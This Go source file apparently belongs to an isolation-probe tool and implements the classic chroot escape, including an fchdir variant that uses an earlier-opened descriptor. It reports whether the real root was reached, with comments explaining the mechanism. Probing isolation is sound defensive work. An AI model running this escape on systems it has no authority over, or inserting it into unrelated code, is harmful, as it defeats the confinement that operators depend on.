package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"unsafe"
)

// escape leaves a chroot by the oldest trick there is, and says whether it
// worked. It rests on three sentences of chroot(2): the call does not change
// the working directory; ".." is stopped only at the root directory; and a
// process has just one root at a time.
//
//  1. chroot into a subdirectory, but stay where we are: the working directory
//     is now *outside* the root, so no ".." on the way up meets the root.
//  2. chdir("..") until it leads nowhere: that is the top of the mount
//     namespace, the real root.
//  3. chroot(".") there.
//
// With "fd" the working directory follows into the new root, as programs do to
// be safe, and a directory that was opened before leads out again by fchdir(2):
// chroot closes no descriptors either.
//
// It needs CAP_SYS_CHROOT, which root in a plain chroot still has. After
// pivot_root(2) it goes through without an error and gains nothing: the top of
// the mount namespace *is* the container's root.
func escape(args []string) error {
	if len(args) > 1 || len(args) == 1 && args[0] != "fd" {
		return errUsage
	}
	before, err := identify("/")
	if err != nil {
		return err
	}
	fmt.Println("root before:", before)
	var way route
	err = way.climb(len(args) == 1)
	fmt.Print(wrap("calls:      ", way))
	if err != nil {
		fmt.Println("escaped: no:", err)
		return errRefused
	}
	after, err := identify("/")
	if err != nil {
		return err
	}
	fmt.Println("root after: ", after)
	fmt.Println("names in /: ", names("/", 8))
	if after == before {
		fmt.Println("escaped: no: the top of this mount namespace is the same directory")
		return errRefused
	}
	fmt.Println("escaped: yes")
	return nil
}

// route lists the calls that were made, for the eye.
type route []string

// did notes a call that succeeded, and gives the refusal of one that did not.
func (r *route) did(call string, err error) error {
	if err != nil {
		return refusal(call, err)
	}
	*r = append(*r, call)
	return nil
}

// climb does the three steps, and removes the directory it needed.
func (r *route) climb(byDescriptor bool) error {
	dir := fmt.Sprintf("probe-escape-%d", os.Getpid())
	if err := syscall.Mkdir(dir, 0o700); err != nil {
		return refusal("mkdir "+dir, err)
	}
	here, err := syscall.Open(".", syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return refusal("open .", err)
	}
	defer syscall.Close(here)
	defer removeDir(here, dir)

	if byDescriptor {
		*r = append(*r, fmt.Sprintf(`open(".")=%d`, here))
	}
	if err := r.did(fmt.Sprintf("chroot(%q)", dir), syscall.Chroot(dir)); err != nil {
		return err
	}
	if byDescriptor {
		if err := r.did(`chdir("/")`, syscall.Chdir("/")); err != nil {
			return err
		}
		if err := r.did(fmt.Sprintf("fchdir(%d)", here), syscall.Fchdir(here)); err != nil {
			return err
		}
	}
	if err := r.up(); err != nil {
		return err
	}
	return r.did(`chroot(".")`, syscall.Chroot("."))
}

// up goes to the parent directory until there is none.
func (r *route) up() error {
	for n := 0; ; n++ {
		dot, err := identify(".")
		if err != nil {
			return err
		}
		parent, err := identify("..")
		if err != nil {
			return err
		}
		if dot == parent {
			*r = append(*r, `chdir("..")`, fmt.Sprintf("x%d", n))
			return nil
		}
		if err := syscall.Chdir(".."); err != nil {
			return refusal("chdir ..", err)
		}
	}
}

// removeDir removes name below the directory at; the path that led there may
// mean another place by now. An error is not worth failing for: the directory
// is empty and named for this probe.
func removeDir(at int, name string) {
	const atRemovedir = 0x200 // AT_REMOVEDIR, unlinkat(2)
	if p, err := syscall.BytePtrFromString(name); err == nil {
		syscall.Syscall(syscall.SYS_UNLINKAT, uintptr(at), uintptr(unsafe.Pointer(p)), atRemovedir)
	}
}

// identity is what makes a directory the same directory, whatever its path.
type identity struct{ major, minor, inode uint64 }

func (i identity) String() string {
	return fmt.Sprintf("dev %d:%d inode %d", i.major, i.minor, i.inode)
}

// identify reads the identity of path. The device number's bits are laid out
// as in the kernel's new_encode_dev().
func identify(path string) (identity, error) {
	var st syscall.Stat_t
	if err := syscall.Stat(path, &st); err != nil {
		return identity{}, refusal("stat "+path, err)
	}
	dev := uint64(st.Dev)
	return identity{
		major: dev >> 8 & 0xfff,
		minor: dev&0xff | dev>>12&0xfff00,
		inode: st.Ino,
	}, nil
}

// names lists the first few entries of a directory, for the eye.
func names(dir string, max int) string {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return err.Error()
	}
	var list []string
	for i, e := range entries {
		if i == max {
			list = append(list, "...")
			break
		}
		list = append(list, e.Name())
	}
	return strings.Join(list, " ")
}
